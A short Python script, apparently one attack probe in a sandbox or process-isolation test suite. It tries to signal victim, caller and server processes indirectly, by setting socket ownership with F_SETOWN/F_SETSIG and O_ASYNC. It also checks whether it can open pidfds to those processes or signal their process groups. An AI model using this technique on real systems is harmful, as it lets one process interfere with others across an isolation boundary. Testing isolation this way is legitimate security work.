"""Has the kernel deliver signals to others in its name: through owners of sockets."""

import contextlib
import fcntl
import os
import signal
import socket

from attacker import got, host, tried

F_SETSIG = 10
targets = [host["victim"], host["caller"], *([host["server"]] if host["server"] else [])]
targets += [-pid for pid in targets]
tried(targets)
for pid in targets:
    ours, theirs = socket.socketpair()
    with ours, theirs, contextlib.suppress(OSError):
        fcntl.fcntl(ours, F_SETSIG, signal.SIGUSR1)
        fcntl.fcntl(ours, fcntl.F_SETOWN, pid)
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        theirs.send(b"now")
    with contextlib.suppress(OSError):
        os.close(os.pidfd_open(abs(pid)))
        got(f"has a handle of process {abs(pid)}")
    with contextlib.suppress(OSError):
        os.killpg(abs(pid), 0)
        got(f"may signal the group {abs(pid)}")
